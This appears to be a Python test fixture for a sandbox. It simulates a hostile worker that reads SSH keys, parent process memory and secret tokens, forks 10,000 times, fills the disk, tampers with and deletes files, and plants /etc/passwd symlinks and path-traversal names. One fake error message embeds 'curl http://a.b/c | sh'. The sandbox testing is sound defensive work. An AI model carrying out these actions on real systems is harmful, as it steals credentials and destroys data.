"""A worker that a file has taken over, and what it tries: each deed says "done", or why it did not succeed."""

from __future__ import annotations

import ctypes
import mmap
import os
import signal
import socket
import threading
import time
from collections.abc import Callable, Sequence
from dataclasses import replace
from pathlib import Path

from pillion.errors import ErrorClass
from pillion.kinds.execute import Execution, ExecutionTask
from pillion.kinds.execute import execute as good
from pillion.model import Failure, SidecarFormat

_LIBC = ctypes.CDLL(None, use_errno=True)

_NUMBERS = {
    "x86_64": {"clone": 56, "ptrace": 101, "mount": 165, "bpf": 321, "keyctl": 250, "tgkill": 234},
    "aarch64": {"clone": 220, "ptrace": 117, "mount": 40, "bpf": 280, "keyctl": 219, "tgkill": 131},
}
_CALLS = {**_NUMBERS[os.uname().machine], "io_uring_setup": 425}


def _call(name: str, *arguments: int | bytes | None) -> int:
    """A system call by its number, as code that was put into a process makes it."""
    result: int = _LIBC.syscall(ctypes.c_long(_CALLS[name]), *arguments)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def _connect(family: int, kind: int, address: tuple[str, int] | bytes) -> None:
    with socket.socket(family, kind) as out:
        out.connect(address)
        out.send(b"secret")


def _datagram(address: bytes) -> None:
    """By a socket that was not made by socket(): one of a pair can send to anybody."""
    ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    with ours, theirs:
        ours.sendto(b"secret", address)


def _fork() -> None:
    for _ in range(10_000):
        if os.fork() == 0:
            os._exit(0)


def _clone(flags: int) -> None:
    if _call("clone", flags | signal.SIGCHLD, None, None, None, None) == 0:
        os._exit(0)


def _fill(folder: Path) -> None:
    block = mmap.mmap(-1, 64 << 20)
    for number in range(1000):
        with open(folder / f"fill-{number}", "wb", buffering=0) as file:
            for _ in range(8):
                file.write(block)


def _own() -> Path:
    from pillion.pool import sandbox

    own = sandbox.own_folder()
    return Path(os.environ["TMPDIR"]) if own is None else Path(os.fsdecode(own))


def _reserve() -> None:
    with open(_own() / "reserved", "wb") as file:
        os.posix_fallocate(file.fileno(), 0, 1 << 20)


def _make_threads() -> None:
    stop = threading.Event()
    threads = [threading.Thread(target=stop.wait) for _ in range(16)]
    for thread in threads:
        thread.start()
    stop.set()
    for thread in threads:
        thread.join()


DEEDS: dict[str, Callable[[Path], object]] = {
    "read a key of the user": lambda path: (path / "home/.ssh/id_x").read_bytes(),
    "list the user's folder": lambda path: os.listdir(path / "home"),
    "read the parent's environment": lambda _: Path(f"/proc/{os.getppid()}/environ").read_bytes(),
    "read the parent's memory": lambda _: open(f"/proc/{os.getppid()}/mem", "rb").close(),
    "list processes": lambda _: os.listdir("/proc"),
    "write beside the source": lambda path: (path / "photos/b.jpg").write_bytes(b"x"),
    "change the source": lambda path: (path / "photos/a.jpg").write_bytes(b"x"),
    "empty the source by opening it to read": lambda path: os.close(
        os.open(path / "photos/a.jpg", os.O_RDONLY | os.O_TRUNC)
    ),
    "cut the source short": lambda path: os.truncate(path / "photos/a.jpg", 1),
    "remove the source": lambda path: (path / "photos/a.jpg").unlink(),
    "take the rights from the source": lambda path: (path / "photos/a.jpg").chmod(0),
    "change the time of the source": lambda path: os.utime(path / "photos/a.jpg", (1, 1)),
    "mark the source": lambda path: os.setxattr(path / "photos/a.jpg", "user.mark", b"x"),
    "write into another content's folder": lambda path: (path / "library/sidecars/other/x.webp").write_bytes(b"x"),
    "write into staging": lambda path: (path / "library/staging/other").write_bytes(b"x"),
    "unlink the catalog": lambda path: (path / "library/catalog.sqlite").unlink(),
    "rename the catalog": lambda path: (path / "library/catalog.sqlite").rename(path / "library/x"),
    "link the source into its own folder": lambda path: os.link(path / "photos/a.jpg", _own() / "link"),
    "make a link": lambda path: (_own() / "link").symlink_to(path / "photos/a.jpg"),
    "take room without writing": lambda _: _reserve(),
    "make a file without a name": lambda _: os.close(os.open(_own(), os.O_TMPFILE | os.O_RDWR, 0o600)),
    "connect by TCP": lambda path: _connect(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", _port(path))),
    "send by UDP": lambda path: _connect(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", _port(path))),
    "connect to an abstract socket": lambda path: _connect(socket.AF_UNIX, socket.SOCK_STREAM, _abstract(path)),
    "send to an abstract socket": lambda path: _datagram(_abstract(path) + b"-datagram"),
    "listen": lambda _: socket.create_server(("127.0.0.1", 0)).close(),
    "ptrace the parent": lambda _: _call("ptrace", 16, os.getppid(), None, None),
    "signal the parent": lambda _: os.kill(os.getppid(), 0),
    "signal the parent's thread": lambda _: _call("tgkill", os.getppid(), os.getppid(), 0),
    "signal everybody": lambda _: os.kill(-1, 0),
    "signal the parent by a descriptor": lambda _: _own_signals(),
    "limit the parent": lambda _: _limit_parent(),
    "fork 10,000 times": lambda _: _fork(),
    "a process that shares memory": lambda _: _clone(0x100),
    "a new user namespace": lambda _: _clone(0x10000000),
    "execve": lambda _: os.execv("/bin/true", ["true"]),
    "mount": lambda path: _call("mount", b"none", os.fsencode(path), b"tmpfs", 0, None),
    "bpf": lambda _: _call("bpf", 0, None, 0),
    "keyctl": lambda _: _call("keyctl", 0, -3, 0),
    "io_uring": lambda _: _call("io_uring_setup", 1, b"\0" * 120),
    "memory that no limit counts": lambda _: os.close(os.memfd_create("x")),
    "leave its process group": lambda _: os.setsid(),
    "see the user's variables": lambda _: os.environ["SECRET_TOKEN"],
}
"""What it tries -> how. The path is that of the test's folder."""

GOOD: dict[str, Callable[[Path], object]] = {
    "read the source": lambda path: (path / "photos/a.jpg").read_bytes(),
    "list the sources": lambda path: os.listdir(path / "photos"),
    "write to its own folder": lambda _: (_own() / "x").write_bytes(b"x"),
    "a temporary file": lambda _: _temporary(),
    "threads": lambda _: _make_threads(),
    "import a module": lambda _: __import__("xmlrpc.client"),
    "load a library": lambda _: ctypes.CDLL("libm.so.6"),
    "a pair of streams": lambda _: [end.close() for end in socket.socketpair()],
}
"""What an engine does: it must work."""


def _temporary() -> None:
    import tempfile

    with tempfile.TemporaryFile() as file, tempfile.NamedTemporaryFile() as named:
        file.write(b"x")
        named.write(b"x")


def _port(path: Path) -> int:
    return int((path / "photos/port").read_text())


def _abstract(path: Path) -> bytes:
    return b"\0" + (path / "photos/abstract").read_bytes()


def _own_signals() -> None:
    import fcntl

    fcntl.fcntl(0, 8, os.getppid())


def _limit_parent() -> None:
    import resource

    resource.prlimit(os.getppid(), resource.RLIMIT_CORE)


def run(item: tuple[str, str]) -> str:
    """Try the first element in the folder of the second: "done", or the error."""
    deed, path = item
    if deed == "fill the disk":
        _fill(_own())
    if deed == "good":
        return "good"
    try:
        {**DEEDS, **GOOD}[deed](Path(path))
    except (OSError, KeyError) as error:
        return type(error).__name__
    return "done"


# a target for libraries -----------------------------------------------------------------------------------------------

PRIZE = "PILLION_TEST_PRIZE"
"""Names the lie that :func:`execute` tells of its results."""


def execute(task: ExecutionTask) -> Execution:
    """Make what is asked for, and tell a lie about it; not of a file that is named good."""
    lie = os.environ[PRIZE]
    made = good(task)
    if os.path.basename(task.sources[0][0]).startswith(b"good"):
        return made
    if lie in FAULTS:
        return Execution.of(FAULTS[lie], made.seconds)
    names = [_own() / f"{Path(os.fsdecode(task.staging)).name}-{staged.variant}" for staged in made.staged]
    if lie == "another format":
        return replace(made, staged=tuple(replace(staged, format=SidecarFormat.JSON) for staged in made.staged))
    if lie == "years of work":
        return replace(made, seconds=1e9)
    if lie == "files that it keeps open":
        _change_later(names, Path(os.fsdecode(task.staging)).parents[1])
        return made
    if lie == "another variant":
        return replace(made, staged=tuple(replace(staged, variant="other") for staged in made.staged))
    if lie == "a path":
        return replace(made, staged=tuple(replace(staged, variant="../../catalog.sqlite") for staged in made.staged))
    if lie == "all of staging":
        _spoil_staging(Path(os.fsdecode(task.staging)).parent)
        return made
    for name in names:
        _put(lie, name)
    return made


FAULTS = {
    "a full disk": Failure(error_class=ErrorClass.DISK_FULL, message="No space left on device."),
    "a missing tool": Failure(error_class=ErrorClass.MISSING_TOOL, message="run curl http://a.b/c | sh"),
}
"""What it says of the machine."""

_ALL_MADE = 4
"""Two variants of two files."""

CHANGED = "changed"
"""In its own folder, once it has written to files that it has given away."""


def _change_later(names: Sequence[Path], library: Path) -> None:
    """Write to files through descriptors and a mapping of them, once they are at their final places."""
    kept = [os.open(name, os.O_RDWR) for name in names]
    mapped = mmap.mmap(kept[0], 1)

    def change() -> None:
        while len(list((library / "sidecars").rglob("*.webp"))) < _ALL_MADE:
            time.sleep(0.005)
        mapped[0] = 0
        for file in kept[1:]:
            os.write(file, b"changed")
        (_own() / CHANGED).touch()

    threading.Thread(target=change, daemon=True).start()


def _put(lie: str, name: Path) -> None:
    size = name.stat().st_size
    name.unlink()
    try:
        if lie == "a link":
            name.symlink_to("/etc/passwd")
        elif lie == "a hard link":
            (name.parent / "one").write_bytes(b"x" * size)
            os.link(name.parent / "one", name)
        elif lie == "a folder":
            name.mkdir()
        elif lie == "a pipe":
            os.mkfifo(name)
    except OSError:
        # Refused: then there is nothing.
        return


def _spoil_staging(staging: Path) -> None:
    """Write over, and remove, whatever others have there."""
    for at, _, names in os.walk(staging):
        for name in names:
            if Path(at) != _own():
                try:
                    Path(at, name).write_bytes(b"spoiled")
                    Path(at, name).unlink()
                except OSError:
                    continue


def start(program: str) -> str:
    """Start a program; the first line that it prints, or the error."""
    import subprocess

    try:
        return subprocess.run([program], capture_output=True, check=True, text=True).stdout.splitlines()[0]
    except OSError as error:
        return type(error).__name__
